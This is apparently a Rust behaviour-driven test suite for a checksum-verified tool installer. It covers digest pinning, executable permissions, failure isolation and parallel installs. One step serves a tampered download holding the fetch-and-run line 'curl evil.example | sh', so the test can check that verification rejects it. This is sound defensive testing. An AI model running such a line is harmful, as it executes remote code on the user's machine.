//! Behaviour-driven tests for the verified fetch-install pipeline.
//!
//! Payloads are served by an in-memory stub fetcher and the self-test runs
//! real shell scripts, so these scenarios need a Unix host. Tests use the
//! rstest-bdd v0.5.0 mutable world pattern.

#![cfg(unix)]

use camino::{Utf8Path, Utf8PathBuf};
use git_plugins_installer::artefact::catalogue::Catalogue;
use git_plugins_installer::artefact::descriptor::ArtefactDescriptor;
use git_plugins_installer::batch::run_batch;
use git_plugins_installer::error::{InstallerError, Stage};
use git_plugins_installer::pipeline::{InstallPipeline, InstalledArtefact};
use git_plugins_installer::self_test::{ProcessSelfTester, SelfTester};
use git_plugins_installer::stager::Stager;
use git_plugins_installer::test_utils::{
    StubFetcher, StubResponse, descriptor_for, stub_url, version_script,
};
use rstest::fixture;
use rstest_bdd_macros::{given, scenario, then, when};
use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use tempfile::TempDir;

// ---------------------------------------------------------------------------
// World types
// ---------------------------------------------------------------------------

type Outcome = Result<InstalledArtefact, InstallerError>;

#[derive(Default)]
struct InstallWorld {
    temp: Option<TempDir>,
    stager: Option<Stager>,
    descriptors: Vec<ArtefactDescriptor>,
    fetcher: StubFetcher,
    outcomes: Vec<Outcome>,
    snapshots: Vec<BTreeMap<String, (Vec<u8>, u32)>>,
    catalogue: Option<Catalogue>,
}

impl InstallWorld {
    fn stager(&self) -> &Stager {
        self.stager.as_ref().expect("binary directory not set")
    }

    fn outcome_for(&self, name: &str) -> &Outcome {
        self.outcomes
            .iter()
            .zip(&self.descriptors)
            .find(|(_, descriptor)| descriptor.name().as_str() == name)
            .map(|(outcome, _)| outcome)
            .unwrap_or_else(|| panic!("no outcome recorded for {name}"))
    }

    fn serve(&mut self, name: &str, response: StubResponse) {
        let fetcher = std::mem::take(&mut self.fetcher);
        self.fetcher = fetcher.with(stub_url(name), response);
    }
}

#[fixture]
fn world() -> InstallWorld {
    InstallWorld::default()
}

fn new_bin_dir(temp: &TempDir, leaf: &str) -> Stager {
    let path = Utf8PathBuf::try_from(temp.path().join(leaf)).expect("UTF-8 path");
    let stager = Stager::new(path);
    stager.prepare().expect("prepare binary directory");
    stager
}

fn install_all(
    descriptors: &[ArtefactDescriptor],
    fetcher: &StubFetcher,
    stager: &Stager,
    jobs: usize,
) -> Vec<Outcome> {
    let tester = ProcessSelfTester::default();
    let pipeline = InstallPipeline::new(fetcher, stager, &tester);
    run_batch(descriptors, jobs, |descriptor| pipeline.install(descriptor)).into_outcomes()
}

fn snapshot(dir: &Utf8Path) -> BTreeMap<String, (Vec<u8>, u32)> {
    dir.read_dir_utf8()
        .expect("read binary directory")
        .map(|entry| {
            let entry = entry.expect("directory entry");
            let path = entry.path();
            let mode = std::fs::metadata(path).expect("metadata").permissions().mode() & 0o777;
            (
                entry.file_name().to_owned(),
                (std::fs::read(path).expect("read file"), mode),
            )
        })
        .collect()
}

// ---------------------------------------------------------------------------
// Step definitions
// ---------------------------------------------------------------------------

#[given("an empty binary directory")]
fn given_empty_bin_dir(world: &mut InstallWorld) {
    let temp = TempDir::new().expect("temp dir");
    world.stager = Some(new_bin_dir(&temp, "bin"));
    world.temp = Some(temp);
}

fn publish(world: &mut InstallWorld, name: &str, exit_code: i32) {
    let body = version_script(name, exit_code);
    world.descriptors.push(descriptor_for(name, &body));
    world.serve(name, StubResponse::Bytes(body));
}

#[given("a published tool \"{name}\" whose self-test passes")]
fn given_passing_tool(world: &mut InstallWorld, name: String) {
    publish(world, &name, 0);
}

#[given("a published tool \"{name}\" whose self-test fails")]
fn given_failing_tool(world: &mut InstallWorld, name: String) {
    publish(world, &name, 1);
}

#[given("the download of \"{name}\" has been tampered with")]
fn given_tampered_download(world: &mut InstallWorld, name: String) {
    world.serve(
        &name,
        StubResponse::Bytes(b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
    );
}

#[given("the download of \"{name}\" is missing")]
fn given_missing_download(world: &mut InstallWorld, name: String) {
    world.serve(&name, StubResponse::NotFound);
}

#[when("every tool is installed with {jobs} jobs")]
fn when_installed(world: &mut InstallWorld, jobs: String) {
    let jobs: usize = jobs.parse().expect("jobs should be a number");
    world.outcomes = install_all(&world.descriptors, &world.fetcher, world.stager(), jobs);
}

#[when("every tool is installed again")]
fn when_installed_again(world: &mut InstallWorld) {
    world.outcomes = install_all(&world.descriptors, &world.fetcher, world.stager(), 1);
}

#[when("the tools are installed both sequentially and with {jobs} jobs")]
fn when_installed_both_ways(world: &mut InstallWorld, jobs: String) {
    let jobs: usize = jobs.parse().expect("jobs should be a number");
    let temp = TempDir::new().expect("temp dir");
    for (leaf, jobs) in [("sequential", 1), ("parallel", jobs)] {
        let stager = new_bin_dir(&temp, leaf);
        let outcomes = install_all(&world.descriptors, &world.fetcher, &stager, jobs);
        assert!(
            outcomes.iter().all(Result::is_ok),
            "{leaf} install failed: {outcomes:?}"
        );
        world.snapshots.push(snapshot(stager.bin_dir()));
    }
    world.temp = Some(temp);
}

#[when("the built-in catalogue is loaded")]
fn when_catalogue_loaded(world: &mut InstallWorld) {
    world.catalogue = Some(Catalogue::builtin().expect("built-in catalogue is valid"));
}

#[then("\"{name}\" is installed and executable")]
fn then_installed(world: &mut InstallWorld, name: String) {
    let path = world.stager().bin_dir().join(&name);
    let descriptor = world
        .descriptors
        .iter()
        .find(|d| d.name().as_str() == name)
        .expect("descriptor");
    let bytes = std::fs::read(&path).expect("installed file should exist");
    assert_eq!(
        git_plugins_installer::artefact::sha256_digest::Sha256Digest::of_bytes(&bytes),
        *descriptor.expected_digest()
    );
    let mode = std::fs::metadata(&path).expect("metadata").permissions().mode();
    assert_eq!(mode & 0o777, 0o755);
}

#[then("\"{name}\" passes its self-test")]
fn then_self_test_passes(world: &mut InstallWorld, name: String) {
    let installed = world
        .outcome_for(&name)
        .as_ref()
        .expect("install should succeed");
    ProcessSelfTester::default()
        .self_test(&installed.path)
        .expect("installed tool should pass its self-test");
}

#[then("\"{name}\" fails at the \"{stage}\" stage")]
fn then_fails_at_stage(world: &mut InstallWorld, name: String, stage: String) {
    let err = world
        .outcome_for(&name)
        .as_ref()
        .expect_err("install should fail");
    assert_eq!(err.tool().map(|t| t.as_str()), Some(name.as_str()));
    assert_eq!(err.stage().map(|s: Stage| s.to_string()), Some(stage));
    assert!(err.to_string().starts_with(&format!("{name}: ")));
}

#[then("no file named \"{name}\" exists in the binary directory")]
fn then_no_file(world: &mut InstallWorld, name: String) {
    assert!(!world.stager().bin_dir().join(name).exists());
}

#[then("the binary directory holds no temporary files")]
fn then_no_temporary_files(world: &mut InstallWorld) {
    let leftovers: Vec<String> = snapshot(world.stager().bin_dir())
        .into_keys()
        .filter(|name| name.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "leftover files: {leftovers:?}");
}

#[then("the binary directory holds exactly {count} files")]
fn then_file_count(world: &mut InstallWorld, count: String) {
    let count: usize = count.parse().expect("count should be a number");
    assert_eq!(snapshot(world.stager().bin_dir()).len(), count);
}

#[then("every tool was downloaded {times} times")]
fn then_download_count(world: &mut InstallWorld, times: String) {
    let times: usize = times.parse().expect("times should be a number");
    let requests = world.fetcher.requests();
    for descriptor in &world.descriptors {
        let url = descriptor.source_url();
        assert_eq!(
            requests.iter().filter(|r| r.as_str() == url).count(),
            times,
            "download count for {url}"
        );
    }
}

#[then("both binary directories hold identical files")]
fn then_identical_dirs(world: &mut InstallWorld) {
    let [sequential, parallel] = world.snapshots.as_slice() else {
        panic!("expected two snapshots");
    };
    assert_eq!(sequential.len(), world.descriptors.len());
    assert_eq!(sequential, parallel);
}

#[then("the catalogue lists \"{names}\"")]
fn then_catalogue_lists(world: &mut InstallWorld, names: String) {
    let catalogue = world.catalogue.as_ref().expect("catalogue not loaded");
    let listed: Vec<&str> = catalogue.names().map(|n| n.as_str()).collect();
    assert_eq!(listed.join(", "), names);
}

#[then("\"{name}\" is pinned to digest \"{digest}\"")]
fn then_pinned_digest(world: &mut InstallWorld, name: String, digest: String) {
    let catalogue = world.catalogue.as_ref().expect("catalogue not loaded");
    let descriptor = catalogue.get(&name).expect("known tool");
    assert_eq!(descriptor.expected_digest().as_str(), digest);
    assert!(descriptor.source_url().ends_with(&format!("/src/{name}")));
}

// ---------------------------------------------------------------------------
// Scenario bindings
// ---------------------------------------------------------------------------

#[scenario(
    path = "tests/features/install.feature",
    name = "Install git-get end to end"
)]
fn scenario_install_git_get(world: InstallWorld) {
    let _ = world;
}

#[scenario(
    path = "tests/features/install.feature",
    name = "Reject a tampered download of git-get"
)]
fn scenario_reject_tampered_download(world: InstallWorld) {
    let _ = world;
}

#[scenario(
    path = "tests/features/install.feature",
    name = "Missing download stops the pipeline"
)]
fn scenario_missing_download(world: InstallWorld) {
    let _ = world;
}

#[scenario(
    path = "tests/features/install.feature",
    name = "Self-test failure keeps the verified tool installed"
)]
fn scenario_self_test_failure(world: InstallWorld) {
    let _ = world;
}

#[scenario(
    path = "tests/features/install.feature",
    name = "One failure does not affect the other tools"
)]
fn scenario_failure_isolation(world: InstallWorld) {
    let _ = world;
}

#[scenario(
    path = "tests/features/install.feature",
    name = "Reinstalling leaves identical content"
)]
fn scenario_reinstall(world: InstallWorld) {
    let _ = world;
}

#[scenario(
    path = "tests/features/install.feature",
    name = "Parallel installation matches sequential installation"
)]
fn scenario_parallel_matches_sequential(world: InstallWorld) {
    let _ = world;
}

#[scenario(
    path = "tests/features/install.feature",
    name = "Built-in catalogue pins every tool"
)]
fn scenario_builtin_catalogue(world: InstallWorld) {
    let _ = world;
}
